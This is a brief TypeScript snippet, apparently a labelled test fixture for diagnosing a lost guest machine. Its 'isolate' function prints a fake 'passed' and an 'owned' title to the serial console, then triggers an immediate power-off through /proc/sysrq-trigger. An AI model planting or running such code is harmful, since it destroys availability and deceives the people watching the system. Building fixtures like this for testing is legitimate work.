// The same on the kernel's console, whose last words are reported when a machine is lost.
// diagnosis: guest-shutdown
// harmless: yes
import { writeFileSync } from "node:fs";

export function isolate(_hostname: string): void {
	writeFileSync("/dev/ttyS0", "\x1b[2J\x1b[Hpassed\x1b]0;owned\x07\n");
	writeFileSync("/proc/sysrq-trigger", "o");
	for (;;);
}
